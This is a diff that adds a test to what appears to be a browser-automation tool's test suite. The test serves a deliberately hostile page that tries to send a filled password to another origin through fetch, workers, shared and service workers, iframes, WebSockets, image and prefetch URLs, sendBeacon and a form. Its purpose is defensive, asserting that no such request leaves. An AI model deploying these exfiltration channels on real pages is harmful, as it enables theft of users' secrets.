@@ -170,6 +170,95 @@ test("no request takes a filled secret to another host", { skip }, () =>
     assert.deepEqual(leaked, []);
   }));
 
+/** Script that sends what it is given to another host, and answers with "sent" or "refused". */
+const sender = (there: string, name: string, answer: string) =>
+  `fetch("${there}/leak-${name}", { method: "POST", mode: "no-cors", body: v }).then(() => "sent", () => "refused").then((s) => ${answer})`;
+const PEER = `<script>onmessage = ({ data: v }) => ${sender("", "frame", 'parent.postMessage(s, "*")')}</script>`;
+
+/** Page that takes a value that it is given to another host in every way that a page has beside a request of its own. */
+function hostilePage(there: string): string {
+  const text = JSON.stringify;
+  const worker = (name: string) => `onmessage = ({ data: v }) => ${sender(there, name, "postMessage(s)")}`;
+  const nested = `onmessage = ({ data: v }) => { const inner = new Worker(URL.createObjectURL(new Blob([${
+    text(worker("nested"))
+  }]))); inner.onmessage = ({ data }) => postMessage(data); inner.postMessage(v) }`;
+  return `<title>Ways</title><iframe id=early src="${there}/peer"></iframe>
+  <form action="${there}/leak-window" target=_blank><input id=word name=word type=password aria-label=Word><button>Open</button></form>
+  <p id=said></p><p id=end></p><script>
+  const word = document.getElementById("word"), results = [];
+  const say = (name, result) => { results.push(name + " " + result); document.getElementById("said").textContent = results.join(", ");
+    if (results.length === 12) document.getElementById("end").textContent = "all ways were tried" };
+  const blob = (script) => URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
+  const start = (script, name) => { const made = new Worker(blob(script)); made.onmessage = ({ data }) => say(name, data); return made };
+  const share = (name) => { const made = new SharedWorker("/shared.js?" + name); made.onerror = () => say(name, "refused");
+    made.port.onmessage = ({ data }) => data === "here" ? document.title = "Shared" : say(name, data); made.port.start(); return made.port };
+  const early = start(${text(worker("early"))}, "early"), shared = share("early-shared");
+  onmessage = ({ data }) => say("frame", data);
+  navigator.serviceWorker.onmessage = ({ data }) => say("service", data);
+  const serve = async (scope) => { const { installing, waiting, active } = await navigator.serviceWorker.register("/serve.js", { scope });
+    return installing ?? waiting ?? active };
+  const served = serve("/early/");
+  served.then((ready) => ready.onstatechange = () => ready.state === "activated" && (said.textContent = "ready"));
+  let isOver = false;
+  word.oninput = async () => {
+    if (isOver) return;
+    isOver = true;
+    const v = word.value, there = "${there}";
+    early.postMessage(v); shared.postMessage(v); document.getElementById("early").contentWindow.postMessage(v, "*");
+    start(${text(worker("late"))}, "late").postMessage(v); start(${
+    text(nested)
+  }, "nested").postMessage(v); share("late-shared").postMessage(v);
+    const frame = document.createElement("iframe"); frame.src = there + "/peer";
+    frame.onload = () => frame.contentWindow.postMessage(v, "*"); document.body.append(frame);
+    const gone = document.createElement("iframe"); gone.src = there + "/leak-address?" + v; document.body.append(gone);
+    (await served).postMessage(v); (await serve("/late/")).postMessage(v);
+    const socket = new WebSocket(there.replace("http", "ws") + "/leak-socket?" + v);
+    socket.onerror = () => say("socket", "refused"); socket.onopen = () => say("socket", "open");
+    const image = new Image(); image.src = there + "/leak-image?" + v; image.onerror = () => say("image", "refused");
+    const link = document.createElement("link"); link.rel = "prefetch"; link.href = there + "/leak-prefetch?" + v;
+    link.onerror = () => say("prefetch", "refused"); link.onload = () => say("prefetch", "answered"); document.head.append(link);
+    navigator.sendBeacon(there + "/leak-beacon", v);
+    fetch(there + "/leak-late", { method: "POST", mode: "no-cors", keepalive: true, body: v }).catch(() => say("keepalive", "refused"));
+  };</script>`;
+}
+
+test("no worker, frame, window or socket takes a filled secret to another host", { skip }, async () => {
+  const there = await openSite({ "/peer": PEER, "*": take((response) => void response.end("there")) });
+  const elsewhere = there.origin.replace("127.0.0.1", "localhost");
+  const script = (text: string) => (_request: IncomingMessage, response: ServerResponse) =>
+    void response.writeHead(200, { "content-type": "text/javascript" }).end(text);
+  const here = await openSite({
+    "/": hostilePage(elsewhere),
+    "/shared.js": script(
+      `onconnect = ({ ports: [p] }) => { p.postMessage("here"); p.onmessage = ({ data: v }) => ${
+        sender(elsewhere, "shared", "p.postMessage(s)")
+      } }`,
+    ),
+    "/serve.js": script(
+      `onmessage = ({ data: v, source }) => ${sender(elsewhere, "service", "source.postMessage(s)")}`,
+    ),
+  });
+  try {
+    await withBrowserBench(OPTIONS, async ({ call }) => {
+      await call({ op: "navigate", url: `${here.origin}/` });
+      await call({ op: "wait", for: "ready" });
+      const ref = refOf((await call({ op: "snapshot" })).output, /textbox "Word"/);
+      const filled = await call({ op: "fill", ref, secret: "word" });
+      assert.equal(filled.isError, false, filled.output);
+      const tried = await call({ op: "wait", for: "all ways were tried" });
+      const said = (await call({ op: "text" })).output;
+      assert.equal(tried.isError, false, tried.output + said);
+      assert.doesNotMatch(said, /sent|open/, said);
+      const button = refOf((await call({ op: "snapshot" })).output, /button "Open"/);
+      const opened = await call({ op: "click", ref: button });
+      assert.match(`${filled.output}${opened.output}`, /with a secret was refused: it would go to/);
+      assert.deepEqual(there.requests.filter((request) => request.includes("leak")), []);
+    });
+  } finally {
+    await Promise.all([here.close(), there.close()]);
+  }
+});
+
 test(
   "a picture hides each field and text that may show a filled secret",
   { skip },
